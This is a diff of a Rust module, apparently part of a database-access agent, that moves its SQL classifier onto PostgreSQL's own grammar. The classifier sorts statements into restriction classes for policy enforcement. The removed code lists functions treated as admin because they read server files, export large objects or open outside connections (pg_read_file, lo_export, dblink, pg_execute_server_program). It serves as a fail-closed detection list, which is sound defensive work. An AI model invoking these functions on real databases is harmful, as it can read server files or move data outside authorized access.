@@ -1,27 +1,48 @@
-//! Statement classification: what a piece of SQL does, with a real parser
-//! for the PostgreSQL dialect (sqlparser), and a conservative fallback —
-//! what cannot be parsed is `unknown`, the most restricted class.
+//! Statement classification: what a piece of SQL does, read with
+//! PostgreSQL's own grammar (libpg_query, through the `pg_query` crate), so
+//! the agent and the server cannot disagree on where a literal, a comment
+//! or a statement ends. What does not parse is `unknown`, the most
+//! restricted class.
 //!
-//! A statement's class is the most dangerous of everything inside it:
-//! data-modifying CTEs, `EXPLAIN ANALYZE` of a write, `COPY (DELETE …
-//! RETURNING *) TO STDOUT` and `PREPARE … AS` all count as what they
-//! execute. Functions that reach outside the database or change the
-//! session's privileges (`pg_read_file`, `lo_export`, `dblink`,
-//! `set_config`, …) make a statement `admin`. A message with several
-//! statements takes the class of the worst one.
+//! A statement's class is the most dangerous of everything inside it, at
+//! any depth: data-modifying CTEs, `EXPLAIN ANALYZE` of a write, `COPY
+//! (DELETE … RETURNING *) TO STDOUT`, `PREPARE … AS`, and every function
+//! call wherever it appears (select list, `FROM`, `WHERE`, defaults,
+//! `VALUES`, `LATERAL`, subqueries, CTEs). The tree is walked by a visitor
+//! generated from the parser's own node types ([`walk`]), so no node kind
+//! can be missed.
+//!
+//! A function call is `read` only when the function is a built-in known to
+//! have no side effects: the server catalog's volatility ([`functions`],
+//! generated from `pg_proc`) plus a reviewed list of the volatile built-ins
+//! that only read (`random`, `pg_sleep`, `currval`, …) and of those that
+//! change privileges, files or replication (`admin`). Any other function is
+//! not known to this agent: the statement is `unknown` unless a policy rule
+//! vouches for the function by name (see [`Classification::functions`]).
+//!
+//! The grammar is PostgreSQL 18's. Older servers accept less: a statement
+//! using newer syntax is refused by the server itself, and a keyword that
+//! newer versions reserve makes text that an older server accepts fail to
+//! parse here, so it is `unknown` (fail closed).
 
-use std::{collections::BTreeSet, fmt, ops::ControlFlow, sync::Arc};
+mod derive;
+#[rustfmt::skip]
+mod functions;
+#[rustfmt::skip]
+pub mod walk;
 
+use std::{collections::BTreeSet, fmt, sync::Arc};
+
+use pg_query::protobuf as pb;
 use serde::{Deserialize, Serialize};
-use sqlparser::{
-    ast::{
-        CopySource, CopyTarget, Delete, Expr, FunctionArg, FunctionArgExpr, FunctionArguments,
-        Ident, Insert, ObjectName, ObjectType, Query, Select, SelectItem, Set, SetExpr, Statement,
-        TableAlias, TableFactor, Update, Visit, Visitor,
-    },
-    dialect::PostgreSqlDialect,
-    parser::Parser,
-};
+
+pub use derive::{Derivation, Sources};
+use walk::{Ref, Visitor};
+
+/// The grammar statements are parsed with.
+pub const GRAMMAR: &str = "PostgreSQL 18 (libpg_query, pg_query 18.1.0)";
+/// The server whose catalog the built-in function table was generated from.
+pub const CATALOG: &str = functions::SERVER_VERSION;
 
 /// Operation classes, least to most restricted.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
@@ -32,6 +53,13 @@ pub enum Class {
     Ddl,
     Admin,
     Unknown,
+}
+
+impl Default for Class {
+    /// What is not known is the most restricted.
+    fn default() -> Self {
+        Class::Unknown
+    }
 }
 
 impl fmt::Display for Class {
@@ -46,837 +74,974 @@ impl fmt::Display for Class {
     }
 }
 
+/// Session settings that change how the server reads statement text.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct Dialect {
+    /// `standard_conforming_strings`: off, a backslash escapes in '…' too.
+    pub standard_strings: bool,
+}
+
+impl Default for Dialect {
+    fn default() -> Self {
+        Dialect {
+            standard_strings: true,
+        }
+    }
+}
+
 /// What a message of SQL does.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub struct Classification {
     pub class: Class,
-    /// Tables and views named, lowercased, as written (schema-qualified or
-    /// not). Shared: every statement with this classification records them.
+    /// Tables and views named, as the server resolves the names: quotes
+    /// removed, unquoted names folded to lower case, a database part
+    /// dropped (`schema.table`, or `table` when unqualified); a part
+    /// holding `.` or `"` is written quoted. Shared: every statement with
+    /// this classification records them.
     pub tables: Arc<[String]>,
     /// Whether `tables` is every table the statements touch. Where the
-    /// parser's tree does not say (`GRANT`, `VACUUM`, `CREATE TABLE`, …),
-    /// rules that deny or mask by table apply and rules that allow by table
-    /// do not.
+    /// tree does not say (`GRANT`, `VACUUM`, `CREATE TABLE`, a function
+    /// not known to the agent, …), rules that deny or mask by table apply
+    /// and rules that allow by table do not.
     pub tables_known: bool,
+    /// Functions (and operators) called that are not built-ins this agent
+    /// knows: `schema.name` or `name` as written (resolved like tables).
+    /// Each makes the statement `unknown` with its tables in doubt, unless
+    /// a rule vouches for every one of them (then [`Self::vouched`] holds).
+    #[serde(default)]
+    pub functions: Arc<[String]>,
+    /// Every function called (built-in or not), named as in
+    /// [`Self::functions`]: what rules naming functions match.
+    #[serde(default)]
+    pub calls: Arc<[String]>,
+    /// The class, and whether the tables are known, if every function in
+    /// [`Self::functions`] is vouched for.
+    #[serde(skip)]
+    pub vouched: (Class, bool),
+    /// Every function, relation and column name in the tree, decoded as the
+    /// server decodes them (`U&"pg\005fsleep"` is `pg_sleep`), lowercased:
+    /// statement `patterns` match these as well as the text.
+    #[serde(skip)]
+    pub names: Arc<[String]>,
+    /// Commands of the message's statements ([`COMMANDS`]).
+    #[serde(default, skip_deserializing)]
+    pub commands: Arc<[&'static str]>,
+    /// What the statements use that can carry data past masking (result
+    /// rows are masked; these are not): `DO`, `pg_notify`, logical
+    /// decoding. Refused where a mask rule applies unless a rule allows them
+    /// by name.
+    #[serde(default)]
+    pub outlets: Arc<[String]>,
     /// How many statements the text held (0 when it did not parse).
     pub statements: usize,
     /// Why the text is `unknown`, when it did not parse.
     pub parse_error: Option<String>,
+    /// Why the text is `unknown` although it parsed (a statement kind the
+    /// agent does not know, SQL held in a string it cannot read, …).
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub doubt: Option<String>,
     /// Where each statement's result columns come from (for masking).
     #[serde(skip)]
     pub derivations: Arc<[Derivation]>,
+    /// Prepared statements whose meaning the statements change through SQL
+    /// (`PREPARE`, `DEALLOCATE`, `DISCARD ALL`).
+    #[serde(skip)]
+    pub forgets: Forgets,
 }
 
-/// What a result column's values are computed from: every name its
-/// expression mentions (lowercased; columns among them), and whether it
-/// carries whole rows (`to_json(o)`, `row_to_json(o.*)`).
+/// Prepared statement names a message of SQL redefines or drops.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct Sources {
-    pub names: BTreeSet<String>,
-    pub whole_row: bool,
+pub struct Forgets {
+    pub all: bool,
+    pub names: Vec<String>,
 }
 
-impl Sources {
-    pub fn add(&mut self, other: &Sources) {
-        // Only new names are copied: adding what is known allocates nothing.
-        for n in &other.names {
-            if !self.names.contains(n) {
-                self.names.insert(n.clone());
-            }
-        }
-        self.whole_row |= other.whole_row;
-    }
-}
-
-/// How one statement's result columns are derived, so a masked column
-/// stays masked under another name (`card AS c`, `upper(card)`, a
-/// subquery's alias, a CTE's column list, a UNION's second branch).
-#[derive(Debug, Clone, Default, PartialEq, Eq)]
-pub struct Derivation {
-    /// Per result column, when the positions are certain (no `*`).
-    pub columns: Option<Vec<Sources>>,
-    /// Where positions are not certain: what the computed, unnamed columns
-    /// come from (every result column is treated as one of them).
-    pub unplaced: Sources,
-    /// Names given anywhere in the statement (column aliases, CTE and
-    /// derived-table column lists) and what they stand for.
-    pub aliases: Vec<(String, Sources)>,
-    /// Rows come from something this statement does not show (`FETCH`,
-    /// `EXECUTE`, a function's own result).
-    pub opaque: bool,
-    /// `COPY … TO`: rows leave as COPY data, never masked. `Some(columns)`
-    /// when the copy names its columns, `None` for a whole table or query.
-    pub copy_out: Option<Option<Vec<String>>>,
-}
-
-/// Functions that read or write outside the database, run other SQL, or
-/// change privileges or settings: any use makes the statement `admin`.
-const ADMIN_FUNCTIONS: &[&str] = &[
-    "pg_read_file",
-    "pg_read_binary_file",
-    "pg_ls_dir",
-    "pg_stat_file",
-    "pg_file_write",
-    "lo_import",
-    "lo_export",
-    "lo_from_bytea",
-    "lo_put",
-    "dblink",
-    "dblink_exec",
-    "dblink_connect",
-    "dblink_open",
-    "dblink_send_query",
-    "set_config",
-    "pg_terminate_backend",
-    "pg_cancel_backend",
-    "pg_reload_conf",
-    "pg_rotate_logfile",
-    "pg_promote",
-    "query_to_xml",
-    "query_to_xml_and_xmlschema",
-    "cursor_to_xml",
-    "table_to_xml",
-    "pg_execute_server_program",
-    "pg_ls_logdir",
-    "pg_ls_waldir",
-    "pg_ls_tmpdir",
-    "pg_ls_archive_statusdir",
-    "pg_file_unlink",
-    "pg_file_rename",
-    "pg_switch_wal",
-    "pg_create_restore_point",
-    "pg_logical_emit_message",
-    "pg_create_physical_replication_slot",
-    "pg_create_logical_replication_slot",
-    "pg_drop_replication_slot",
-    "pg_stat_reset",
-    "pg_stat_reset_shared",
-    "pg_stat_reset_single_table_counters",
-    "pg_backup_start",
-    "pg_backup_stop",
-    "pg_start_backup",
-    "pg_stop_backup",
-    "pg_import_system_collations",
-    "pg_log_backend_memory_contexts",
+/// Command names that rules may list (`commands = [...]`): the statement
+/// kinds whose command a rule may want to name rather than classify.
+/// `REPLICATION` stands for a replication connection's startup.
+pub const COMMANDS: &[&str] = &[
+    "ALTER",
+    "ANALYZE",
+    "BEGIN",
+    "CALL",
+    "CHECKPOINT",
+    "CLOSE",
+    "CLUSTER",
+    "COMMENT",
+    "COMMIT",
+    "COPY",
+    "CREATE",
+    "DEALLOCATE",
+    "DECLARE",
+    "DELETE",
+    "DISCARD",
+    "DO",
+    "DROP",
+    "EXECUTE",
+    "EXPLAIN",
+    "FETCH",
+    "GRANT",
+    "INSERT",
+    "LISTEN",
+    "LOAD",
+    "LOCK",
+    "MERGE",
+    "NOTIFY",
+    "PREPARE",
+    "REFRESH",
+    "REINDEX",
+    "RELEASE",
+    "REPLICATION",
+    "RESET",
+    "REVOKE",
+    "ROLLBACK",
+    "SAVEPOINT",
+    "SELECT",
+    "SET",
+    "SHOW",
+    "TRUNCATE",
+    "UNLISTEN",
+    "UPDATE",
+    "VACUUM",
 ];
 
-/// Functions that change data outside any table a statement names (large
-/// objects, sequences): any use makes the statement at least `write`.
-const WRITE_FUNCTIONS: &[&str] = &[
-    "lowrite",
-    "lo_create",
-    "lo_creat",
-    "lo_unlink",
-    "lo_truncate",
-    "lo_truncate64",
-    "nextval",
-    "setval",
-];
-
-/// Settings whose change is a privilege change.
-const ADMIN_SETTINGS: &[&str] = &["role", "session_authorization", "search_path"];
-
-/// Classifies `sql` (one message: one or more statements).
+/// Classifies `sql` (one message: one or more statements) as a server with
+/// the default settings reads it.
 pub fn classify(sql: &str) -> Classification {
-    let stmts = match Parser::parse_sql(&PostgreSqlDialect {}, sql) {
-        Ok(s) => s,
-        Err(e) => {
-            return Classification {
-                class: Class::Unknown,
-                tables: Arc::new([]),
-                tables_known: false,
-                statements: 0,
-                parse_error: Some(e.to_string()),
-                derivations: Arc::new([]),
-            }
+    classify_with(sql, Dialect::default())
+}
+
+/// Classifies `sql` as a server with the settings `dialect` reads it.
+pub fn classify_with(sql: &str, dialect: Dialect) -> Classification {
+    let mut c = Classifier::new(dialect, 0);
+    match c.message(sql) {
+        Ok(derivations) => c.finish(derivations),
+        Err(e) => unparsed(e),
+    }
+}
+
+impl Classification {
+    /// Text the agent cannot read as SQL: `class`, tables in doubt.
+    pub fn not_sql(why: impl Into<String>, class: Class) -> Self {
+        Classification {
+            class,
+            ..unparsed(why.into())
         }
-    };
-    let mut v = Walk::default();
-    for s in &stmts {
-        let _ = s.visit(&mut v);
     }
-    if stmts.is_empty() {
-        // Only comments or semicolons: nothing runs.
-        v.class = Class::Read;
-    }
+}
+
+/// The classification of text that did not parse.
+fn unparsed(error: String) -> Classification {
     Classification {
-        class: v.class,
-        tables: v.tables.into_iter().collect(),
-        tables_known: v.tables_known,
-        statements: stmts.len(),
-        parse_error: None,
-        derivations: stmts.iter().map(derive).collect(),
+        class: Class::Unknown,
+        tables: Arc::new([]),
+        tables_known: false,
+        functions: Arc::new([]),
+        calls: Arc::new([]),
+        vouched: (Class::Unknown, false),
+        names: Arc::new([]),
+        commands: Arc::new([]),
+        outlets: Arc::new([]),
+        statements: 0,
+        parse_error: Some(error),
+        doubt: None,
+        derivations: Arc::new([]),
+        forgets: Forgets::default(),
     }
 }
 
-impl Derivation {
-    /// What result column `i`, named `name` (lowercased), comes from.
-    pub fn column(&self, i: usize, name: &str) -> Sources {
-        let mut s = Sources::default();
-        match &self.columns {
-            Some(cols) => s.add(cols.get(i).unwrap_or(&self.unplaced)),
-            None => s.add(&self.unplaced),
+fn parse(sql: &str, dialect: Dialect) -> Result<pb::ParseResult, String> {
+    let mut options = pg_query::ParserOptions::DEFAULT;
+    if !dialect.standard_strings {
+        options |= pg_query::ParserOptions::DISABLE_STANDARD_CONFORMING_STRINGS;
+    }
+    match pg_query::parse(sql, options) {
+        Ok(r) => Ok(r.protobuf),
+        // A tree deeper than the decoder's limit (about 50 nested
+        // operators) is refused like text that does not parse.
+        Err(pg_query::Error::Decode(_)) => {
+            Err("nested too deeply for the agent to read".to_owned())
         }
-        for (alias, from) in &self.aliases {
-            if alias == name {
-                s.add(from);
-            }
-        }
-        s
+        Err(e) => Err(e.to_string()),
     }
 }
 
-/// How `s`'s result columns are derived.
-fn derive(s: &Statement) -> Derivation {
-    let mut names = Names::default();
-    let _ = s.visit(&mut names);
-    let mut d = Derivation {
-        aliases: names.aliases,
-        ..Derivation::default()
-    };
-    let relations = &names.relations;
-    match s {
-        Statement::Query(q) => (d.columns, d.unplaced) = outputs(&q.body, relations),
-        Statement::Insert(Insert { returning, .. })
-        | Statement::Update(Update { returning, .. })
-        | Statement::Delete(Delete { returning, .. }) => {
-            (d.columns, d.unplaced) = match returning {
-                Some(items) => projection(items, relations),
-                None => (Some(Vec::new()), Sources::default()),
-            };
-        }
-        Statement::Copy {
-            source, to: true, ..
-        } => {
-            d.copy_out = Some(match source {
-                CopySource::Table { columns, .. } if !columns.is_empty() => {
-                    Some(columns.iter().map(ident_name).collect())
-                }
-                _ => None,
-            });
-        }
-        Statement::Explain { .. } | Statement::ExplainTable { .. } => {}
-        _ => d.opaque = true,
-    }
-    d
-}
+/// Most nesting of SQL held in string literals (`query_to_xml('…')`)
+/// that is read; deeper is `unknown`.
+const MAX_LITERAL_DEPTH: u8 = 3;
 
-fn ident_name(i: &Ident) -> String {
-    i.value.to_lowercase()
-}
-
-/// The result columns of a query body.
-fn outputs(body: &SetExpr, relations: &BTreeSet<String>) -> (Option<Vec<Sources>>, Sources) {
-    match body {
-        SetExpr::Select(sel) => projection(&sel.projection, relations),
-        SetExpr::Query(q) => outputs(&q.body, relations),
-        SetExpr::SetOperation { left, right, .. } => {
-            let (l, mut lu) = outputs(left, relations);
-            let (r, ru) = outputs(right, relations);
-            lu.add(&ru);
-            match (l, r) {
-                (Some(mut l), Some(r)) if l.len() == r.len() => {
-                    for (a, b) in l.iter_mut().zip(&r) {
-                        a.add(b);
-                    }
-                    (Some(l), lu)
-                }
-                (l, r) => {
-                    for s in l.iter().chain(r.iter()).flatten() {
-                        lu.add(s);
-                    }
-                    (None, lu)
-                }
-            }
-        }
-        SetExpr::Values(v) => {
-            let width = v.rows.first().map_or(0, |r| r.content.len());
-            let mut cols = vec![Sources::default(); width];
-            for row in &v.rows {
-                for (c, e) in cols.iter_mut().zip(&row.content) {
-                    c.add(&sources(e, relations));
-                }
-            }
-            (Some(cols), Sources::default())
-        }
-        SetExpr::Insert(s) | SetExpr::Update(s) | SetExpr::Delete(s) => {
-            let d = derive(s);
-            (d.columns, d.unplaced)
-        }
-        // `TABLE t` and the like: real column names, like `*`.
-        _ => (None, Sources::default()),
-    }
-}
-
-/// The result columns of a projection: per position when no `*` makes
-/// positions uncertain; otherwise the sources of its computed columns.
-fn projection(
-    items: &[SelectItem],
-    relations: &BTreeSet<String>,
-) -> (Option<Vec<Sources>>, Sources) {
-    let mut cols = Vec::with_capacity(items.len());
-    let mut unplaced = Sources::default();
-    let mut wildcard = false;
-    for item in items {
-        let s = match item {
-            SelectItem::UnnamedExpr(e) => {
-                let s = sources(e, relations);
-                // A bare column keeps its name; anything else gets one of
-                // PostgreSQL's invention.
-                if !matches!(e, Expr::Identifier(_) | Expr::CompoundIdentifier(_)) || s.whole_row {
-                    unplaced.add(&s);
-                }
-                s
-            }
-            SelectItem::ExprWithAlias { expr, .. } | SelectItem::ExprWithAliases { expr, .. } => {
-                sources(expr, relations)
-            }
-            SelectItem::QualifiedWildcard(..) | SelectItem::Wildcard(_) => {
-                wildcard = true;
-                Sources::default()
-            }
-        };
-        cols.push(s);
-    }
-    if wildcard {
-        (None, unplaced)
-    } else {
-        (Some(cols), unplaced)
-    }
-}
-
-/// What `e` is computed from.
-fn sources(e: &Expr, relations: &BTreeSet<String>) -> Sources {
-    let mut c = Mentions {
-        relations,
-        found: Sources::default(),
-    };
-    let _ = e.visit(&mut c);
-    c.found
-}
-
-/// Every column an expression mentions (the last part of a qualified
-/// name); a bare name that is a relation of the statement, or `o.*`, is a
-/// whole row.
-struct Mentions<'a> {
-    relations: &'a BTreeSet<String>,
-    found: Sources,
-}
-
-impl Visitor for Mentions<'_> {
-    type Break = ();
-
-    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
-        match e {
-            Expr::Identifier(i) => {
-                let name = ident_name(i);
-                if self.relations.contains(&name) {
-                    self.found.whole_row = true;
-                }
-                self.found.names.insert(name);
-            }
-            Expr::CompoundIdentifier(parts) => {
-                if let Some(last) = parts.last() {
-                    self.found.names.insert(ident_name(last));
-                }
-            }
-            Expr::QualifiedWildcard(..) => self.found.whole_row = true,
-            Expr::Function(f) => {
-                if let FunctionArguments::List(list) = &f.args {
-                    let whole = list.args.iter().any(|a| {
-                        let (FunctionArg::Named { arg, .. }
-                        | FunctionArg::ExprNamed { arg, .. }
-                        | FunctionArg::Unnamed(arg)) = a;
-                        matches!(arg, FunctionArgExpr::QualifiedWildcard(_))
-                    });
-                    self.found.whole_row |= whole;
-                }
-            }
-            _ => {}
-        }
-        ControlFlow::Continue(())
-    }
-}
-
-/// Relation names and aliases in a statement, and every alias it gives.
-#[derive(Default)]
-struct Names {
-    relations: BTreeSet<String>,
-    aliases: Vec<(String, Sources)>,
-}
-
-impl Names {
-    /// `name(a, b, …)` over a query: each listed name stands for the
-    /// query's column in that position (all of them where uncertain).
-    fn column_list(&mut self, alias: &TableAlias, q: &Query) {
-        if alias.columns.is_empty() {
-            return;
-        }
-        let (cols, unplaced) = outputs(&q.body, &self.relations);
-        for (i, c) in alias.columns.iter().enumerate() {
-            let s = match &cols {
-                Some(cols) => cols.get(i).cloned().unwrap_or_default(),
-                None => unplaced.clone(),
-            };
-            self.aliases.push((ident_name(&c.name), s));
-        }
-    }
-}
-
-impl Visitor for Names {
-    type Break = ();
-
-    fn pre_visit_relation(&mut self, r: &ObjectName) -> ControlFlow<()> {
-        self.relations.insert(last_part(r));
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<()> {
-        match t {
-            TableFactor::Derived {
-                subquery,
-                alias: Some(a),
-                ..
-            } => {
-                self.relations.insert(ident_name(&a.name));
-                self.column_list(a, subquery);
-            }
-            TableFactor::Table { alias: Some(a), .. }
-            | TableFactor::Function { alias: Some(a), .. }
-            | TableFactor::UNNEST { alias: Some(a), .. } => {
-                self.relations.insert(ident_name(&a.name));
-            }
-            _ => {}
-        }
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
-        for cte in q.with.iter().flat_map(|w| &w.cte_tables) {
-            self.relations.insert(ident_name(&cte.alias.name));
-            self.column_list(&cte.alias, &cte.query);
-        }
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_select(&mut self, sel: &Select) -> ControlFlow<()> {
-        for item in &sel.projection {
-            match item {
-                SelectItem::ExprWithAlias { expr, alias } => {
-                    let s = sources(expr, &self.relations);
-                    self.aliases.push((ident_name(alias), s));
-                }
-                SelectItem::ExprWithAliases { expr, aliases } => {
-                    let s = sources(expr, &self.relations);
-                    for a in aliases {
-                        self.aliases.push((ident_name(a), s.clone()));
-                    }
-                }
-                _ => {}
-            }
-        }
-        ControlFlow::Continue(())
-    }
-}
-
-/// One pass over the AST, raising the class as it goes.
-struct Walk {
+/// One pass over a tree, gathering what the statements do.
+struct Classifier {
+    dialect: Dialect,
+    /// How deep in SQL held in literals this classifier reads.
+    depth: u8,
+    /// The class, counting functions the agent does not know as `read`.
     class: Class,
     tables: BTreeSet<String>,
     tables_known: bool,
+    functions: BTreeSet<String>,
+    calls: BTreeSet<String>,
+    names: BTreeSet<String>,
+    commands: BTreeSet<&'static str>,
+    outlets: BTreeSet<String>,
+    statements: usize,
+    doubt: Option<String>,
+    forgets: Forgets,
 }
 
-impl Default for Walk {
-    fn default() -> Self {
-        Walk {
+impl Classifier {
+    fn new(dialect: Dialect, depth: u8) -> Self {
+        Classifier {
+            dialect,
+            depth,
             class: Class::Read,
             tables: BTreeSet::new(),
             tables_known: true,
+            functions: BTreeSet::new(),
+            calls: BTreeSet::new(),
+            names: BTreeSet::new(),
+            commands: BTreeSet::new(),
+            outlets: BTreeSet::new(),
+            statements: 0,
+            doubt: None,
+            forgets: Forgets::default(),
         }
     }
-}
 
-/// A table (or other relation) as written, lowercased, quotes removed.
-fn table_name(r: &ObjectName) -> String {
-    r.0.iter()
-        .map(|p| p.to_string().trim_matches('"').to_lowercase())
-        .collect::<Vec<_>>()
-        .join(".")
-}
+    /// Parses and walks `sql`; the derivation of each statement.
+    fn message(&mut self, sql: &str) -> Result<Vec<Derivation>, String> {
+        let tree = parse(sql, self.dialect)?;
+        let mut derivations = Vec::with_capacity(tree.stmts.len());
+        for raw in &tree.stmts {
+            let Some(stmt) = &raw.stmt else { continue };
+            self.statements += 1;
+            if let Some(command) = stmt.node.as_ref().and_then(command) {
+                self.commands.insert(command);
+            }
+            walk::node(stmt, self);
+            derivations.push(derive::derive(stmt));
+        }
+        Ok(derivations)
+    }
 
-/// Statements whose every table the walk finds (the rest leave the
-/// table list in doubt).
-fn tables_listed(s: &Statement) -> bool {
-    use Statement as S;
-    matches!(
-        s,
-        S::Query(_)
-            | S::Insert(_)
-            | S::Update(_)
-            | S::Delete(_)
-            | S::Merge(_)
-            | S::Truncate(_)
-            | S::Lock(_)
-            | S::Copy { .. }
-            | S::Drop { .. }
-            | S::AlterTable(_)
-            | S::CreateIndex(_)
-            | S::Explain { .. }
-            | S::ExplainTable { .. }
-            | S::Prepare { .. }
-            | S::Declare { .. }
-            | S::StartTransaction { .. }
-            | S::Commit { .. }
-            | S::Rollback { .. }
-            | S::Savepoint { .. }
-            | S::ReleaseSavepoint { .. }
-            | S::Fetch { .. }
-            | S::Close { .. }
-            | S::Deallocate { .. }
-            | S::Discard { .. }
-            | S::ShowVariable { .. }
-            | S::ShowVariables { .. }
-            | S::Set(_)
-    )
-}
+    fn finish(self, derivations: Vec<Derivation>) -> Classification {
+        let vouched = (self.class, self.tables_known);
+        let (class, tables_known) = if self.functions.is_empty() {
+            vouched
+        } else {
+            (Class::Unknown, false)
+        };
+        Classification {
+            class,
+            tables: self.tables.into_iter().collect(),
+            tables_known,
+            functions: self.functions.into_iter().collect(),
+            calls: self.calls.into_iter().collect(),
+            vouched,
+            names: self.names.into_iter().collect(),
+            commands: self.commands.into_iter().collect(),
+            outlets: self.outlets.into_iter().collect(),
+            statements: self.statements,
+            parse_error: None,
+            doubt: self.doubt,
+            derivations: derivations.into(),
+            forgets: self.forgets,
+        }
+    }
 
-impl Walk {
     fn raise(&mut self, c: Class) {
         self.class = self.class.max(c);
     }
+
+    /// The statement is `unknown`, for the reason given (the first kept).
+    fn doubt(&mut self, why: impl Into<String>) {
+        self.raise(Class::Unknown);
+        self.tables_known = false;
+        self.doubt.get_or_insert_with(|| why.into());
+    }
+
+    /// A statement node (by its type's name).
+    fn statement(&mut self, kind: &str) {
+        match statement_class(kind) {
+            Some(c) => self.raise(c),
+            None => self.doubt(format!("{kind}: a statement kind this agent does not know")),
+        }
+        if !TABLES_LISTED.contains(&kind) {
+            self.tables_known = false;
+        }
+    }
+
+    fn table(&mut self, rv: &pb::RangeVar) {
+        let name = qualified(&[rv.schemaname.as_str(), rv.relname.as_str()]);
+        self.names.insert(rv.relname.to_lowercase());
+        self.tables.insert(name);
+    }
+
+    /// A call of the function named by `parts` with `args`.
+    fn call(&mut self, parts: &[&str], args: &[pb::Node]) {
+        let Some((&name, qualifier)) = parts.split_last() else {
+            return;
+        };
+        // A database part is the current database or an error.
+        let schema = qualifier.last().copied();
+        self.names.insert(name.to_lowercase());
+        let written = qualified(&[schema.unwrap_or(""), name]);
+        self.calls.insert(written.clone());
+        let Some(effect) = builtin(schema, name) else {
+            self.functions.insert(written);
+            return;
+        };
+        match effect {
+            Effect::Class(c) => self.raise(c),
+            Effect::Outlet(c) => {
+                self.raise(c);
+                self.outlets.insert(name.to_owned());
+            }
+            Effect::RunsSql(arg) => self.runs_sql(name, args.get(arg)),
+            Effect::ReadsTable(arg) => self.reads_table(name, args.get(arg)),
+            Effect::Unknown(why) => self.doubt(format!("{name}: {why}")),
+        }
+    }
+
+    /// A function that runs the SQL in argument `arg`: read, and classified
+    /// in turn, when it is a literal.
+    fn runs_sql(&mut self, function: &str, arg: Option<&pb::Node>) {
+        let Some(text) = arg.and_then(literal) else {
+            return self.doubt(format!(
+                "{function} runs SQL that is not a literal, which no parser can see"
+            ));
+        };
+        if self.depth >= MAX_LITERAL_DEPTH {
+            return self.doubt(format!("{function}: SQL in literals nested too deeply"));
+        }
+        let mut inner = Classifier::new(self.dialect, self.depth + 1);
+        if let Err(e) = inner.message(text) {
+            return self.doubt(format!("{function} runs SQL that does not parse: {e}"));
+        }
+        self.absorb(inner);
+    }
+
+    /// A function that reads the table named in argument `arg`.
+    fn reads_table(&mut self, function: &str, arg: Option<&pb::Node>) {
+        let name = arg.and_then(literal).and_then(|t| {
+            // A regclass literal reads as a (possibly qualified) name.
+            let tree = parse(&format!("TABLE {t}"), Dialect::default()).ok()?;
+            let [raw] = &tree.stmts[..] else { return None };
+            let Some(pb::node::Node::SelectStmt(s)) = raw.stmt.as_ref()?.node.as_ref() else {
+                return None;
+            };
+            let [from] = &s.from_clause[..] else { return None };
+            match from.node.as_ref()? {
+                pb::node::Node::RangeVar(rv) => Some(rv.clone()),
+                _ => None,
+            }
+        });
+        match name {
+            Some(rv) => self.table(&rv),
+            None => self.doubt(format!(
+                "{function} reads a table named in a value that is not a plain literal name"
+            )),
+        }
+    }
+
+    /// Takes what a classifier of SQL held in a literal found.
+    fn absorb(&mut self, inner: Classifier) {
+        self.raise(inner.class);
+        self.tables.extend(inner.tables);
+        self.tables_known &= inner.tables_known;
+        self.functions.extend(inner.functions);
+        self.calls.extend(inner.calls);
+        self.names.extend(inner.names);
+        self.outlets.extend(inner.outlets);
+        if let Some(d) = inner.doubt {
+            self.doubt(d);
+        }
+    }
+
+    /// An operator (`a + b`): user-defined ones call user functions.
+    fn operator(&mut self, e: &pb::AExpr) {
+        let parts = strings(&e.name);
+        let Some((&op, qualifier)) = parts.split_last() else {
+            return;
+        };
+        // BETWEEN and the like carry keywords, not operator names.
+        if !op.bytes().all(|b| b"+-*/<>=~!@#%^&|`?".contains(&b)) {
+            return;
+        }
+        let schema = qualifier.last().copied().unwrap_or("pg_catalog");
+        if schema != "pg_catalog" || functions::OPERATORS.binary_search(&op).is_err() {
+            self.functions
+                .insert(format!("operator({})", qualified(&[qualifier.last().copied().unwrap_or(""), op])));
+        }
+    }
 }
 
-fn last_part(name: &ObjectName) -> String {
-    name.0
-        .last()
-        .map(|p| p.to_string().trim_matches('"').to_lowercase())
-        .unwrap_or_default()
-}
-
-impl Visitor for Walk {
-    type Break = ();
-
-    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
-        let c = statement_class(s);
-        self.raise(c);
-        match s {
-            Statement::Copy {
-                source: CopySource::Table { table_name: t, .. },
-                ..
-            } => {
-                self.tables.insert(table_name(t));
-            }
-            Statement::Drop { names, .. } => self.tables.extend(names.iter().map(table_name)),
-            _ => {}
-        }
-        self.tables_known &= tables_listed(s);
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<()> {
-        // Row locks (FOR UPDATE/SHARE) are writes in all but name.
-        if !q.locks.is_empty() {
-            self.raise(Class::Write);
-        }
-        if let SetExpr::Select(sel) = q.body.as_ref() {
-            if sel.into.is_some() {
-                // SELECT … INTO creates a table.
-                self.raise(Class::Ddl);
-            }
-        }
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_relation(&mut self, r: &ObjectName) -> ControlFlow<()> {
-        // Set-returning functions in FROM (`FROM dblink(…)`) arrive here too.
-        if ADMIN_FUNCTIONS.contains(&last_part(r).as_str()) {
-            self.raise(Class::Admin);
-        }
-        self.tables.insert(table_name(r));
-        ControlFlow::Continue(())
-    }
-
-    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
-        if let Expr::Function(f) = e {
-            let name = last_part(&f.name);
-            if ADMIN_FUNCTIONS.contains(&name.as_str()) {
-                self.raise(Class::Admin);
-            } else if WRITE_FUNCTIONS.contains(&name.as_str()) {
-                self.raise(Class::Write);
-            }
-        }
-        ControlFlow::Continue(())
-    }
-}
-
-/// The class of one statement node on its own (nested statements, queries
-/// and expressions are visited separately and can only raise it).
-fn statement_class(s: &Statement) -> Class {
-    use Statement as S;
-    match s {
-        S::Query(_)
-        | S::ExplainTable { .. }
-        | S::Explain { .. }
-        | S::Prepare { .. }
